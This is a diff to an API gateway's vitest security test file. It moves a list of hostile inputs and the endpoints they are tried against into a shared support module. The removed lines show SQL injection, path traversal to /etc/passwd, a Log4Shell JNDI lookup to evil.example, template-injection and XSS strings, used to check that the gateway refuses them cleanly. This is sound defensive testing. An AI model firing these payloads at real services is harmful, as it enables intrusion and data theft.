@@ -4,6 +4,7 @@ import { type AddressInfo, connect } from 'node:net';
 import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { startTestGateway, type TestGateway } from '../support/gateway.ts';
+import { hostileTexts, placesOfText } from '../support/hostile-texts.ts';
 
 let gateway: TestGateway;
 let session: string;
@@ -161,24 +162,6 @@ describe('the decision is the same', () => {
   });
 });
 
-const hostile = [
-  "' or '1'='1",
-  "'; drop table keys.keys; --",
-  '\\',
-  '%',
-  '%_'.repeat(1_000),
-  '../../../etc/passwd',
-  '$' + '{jndi:ldap://evil.example}',
-  '{{7*7}}',
-  '<script>alert(1)</script>',
-  '\u202e',
-  'a'.repeat(8_000),
-  '__proto__',
-  'constructor',
-  '9'.repeat(400),
-  '-1e400',
-];
-
 /** Fails unless it is a refusal in the documented shape that tells nothing of the inside. */
 function expectRefusal(what: string, status: number, text: string): void {
   expect(status, `${what}: ${text.slice(0, 300)}`).toBeLessThan(500);
@@ -189,29 +172,8 @@ function expectRefusal(what: string, status: number, text: string): void {
 }
 
 describe('hostile text is a refusal or a name like any other', () => {
-  const places: Readonly<Record<string, (text: string) => [method: string, path: string, body?: object]>> = {
-    'an id': (text) => ['GET', `/api/v1/api-keys/${encodeURIComponent(text)}`],
-    'a key of analytics': (text) => ['GET', `/api/v1/usage/api-keys/${encodeURIComponent(text)}/analytics`],
-    'a search': (text) => ['GET', `/api/v1/api-keys?search=${encodeURIComponent(text)}`],
-    'a filter': (text) => ['GET', `/api/v1/usage/history?model=${encodeURIComponent(text)}`],
-    'a time zone': (text) => [
-      'GET',
-      `/api/v1/usage/report?start_date=2026-01-01&end_date=2026-01-02&timezone=${encodeURIComponent(text)}`,
-    ],
-    'a granularity': (text) => [
-      'GET',
-      `/api/v1/usage/report?start_date=2026-01-01&end_date=2026-01-02&granularity=${encodeURIComponent(text)}`,
-    ],
-    'an unknown parameter': (text) => ['GET', `/api/v1/api-keys?${encodeURIComponent(text)}=1`],
-    'a model': (text) => ['GET', `/v1/models/${encodeURIComponent(text)}`],
-    'a name': (text) => ['POST', '/api/v1/api-keys', { name: text, scopes: ['models:list'] }],
-    'an invoice': (text) => ['GET', `/api/v1/billing/documents/invoices/${encodeURIComponent(text)}`],
-    'a coupon': (text) => ['POST', '/api/v1/billing/coupons/redeem', { code: text }],
-    'an address': (text) => ['POST', '/api/v1/auth/login', { email: text, password: text }],
-  };
-
-  test.each(Object.entries(places))('as %s', async (_where, request) => {
-    for (const text of hostile) {
+  test.each(Object.entries(placesOfText))('as %s', async (_where, request) => {
+    for (const text of hostileTexts) {
       const [method, path, body] = request(text);
       const answer = await gateway.call(method, path, session, body);
       expectRefusal(`${method} ${path.slice(0, 200)}`, answer.status, answer.text);
@@ -219,7 +181,7 @@ describe('hostile text is a refusal or a name like any other', () => {
   });
 
   test('as a bearer', async () => {
-    for (const text of hostile.filter((word) => /^[\x20-\x7e]*$/.test(word))) {
+    for (const text of hostileTexts.filter((word) => /^[\x20-\x7e]*$/.test(word))) {
       const answer = await gateway.call('GET', '/v1/models', text.slice(0, 4_000));
       expect([400, 401]).toContain(answer.status);
       expectRefusal(text, answer.status, answer.text);
